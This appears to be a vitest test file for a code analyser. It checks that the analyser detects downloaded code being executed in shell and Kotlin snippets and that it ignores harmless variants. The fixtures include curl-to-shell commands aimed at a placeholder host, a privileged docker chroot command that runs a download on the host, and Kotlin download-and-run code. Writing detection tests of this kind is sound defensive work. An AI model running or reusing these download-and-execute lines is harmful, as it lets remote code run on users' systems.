import { beforeAll, expect, test } from "vitest";
import type { CodeContext } from "../../../src/review/code/run.ts";
import { described, factsOf, loadContext } from "../../conformance/harness.ts";

let context: CodeContext;
beforeAll(async () => {
  context = await loadContext();
});

const DOWNLOAD = "curl -fsSL https://x.example.invalid/a -o";
const FLOW = /^flow network\.receive\(https:\/\/x\.example\.invalid\/a\) -> execute\.code/;

test.each([
  [
    "shell",
    "by its name, from a folder that is searched",
    `${DOWNLOAD} /usr/local/bin/agent\nagent run\n`,
  ],
  ["shell", "by its name, from the user's own folder", `${DOWNLOAD} ~/.local/bin/agent\nagent\n`],
  [
    "shell",
    "by a shell in a container",
    `docker run --rm -v "$PWD:/src" -w /src alpine:3 sh -c "curl -fsSL https://x.example.invalid/a | sh"\n`,
  ],
  [
    "shell",
    "behind chroot in a container",
    'docker run --privileged -v /:/host alpine chroot /host sh -c "curl https://x.example.invalid/a|sh"\n',
  ],
  [
    "kotlin",
    "by the property that has its path",
    'import java.io.File\nimport java.net.URL\nfun main() {\n  val f = File.createTempFile("a", "")\n  f.writeBytes(URL("https://x.example.invalid/a").readBytes())\n  Runtime.getRuntime().exec(f.absolutePath)\n}\n',
  ],
])("know in %s that a download runs: %s", (language, _, text) => {
  const facts = described(factsOf(language, text, context));

  expect(facts.filter((fact) => FLOW.test(fact))).not.toEqual([]);
});

test.each([
  ["another program", `${DOWNLOAD} /usr/local/bin/agent\nother run\n`],
  ["a file that is not where shells look", `${DOWNLOAD} data/agent\nagent run\n`],
  ["the name of a file in a container", `docker run --rm alpine:3 cat a\n${DOWNLOAD} a\n`],
])("do not take for a download that runs: %s", (_, text) => {
  const facts = described(factsOf("shell", text, context));

  expect(facts.some((fact) => FLOW.test(fact))).toBe(false);
});
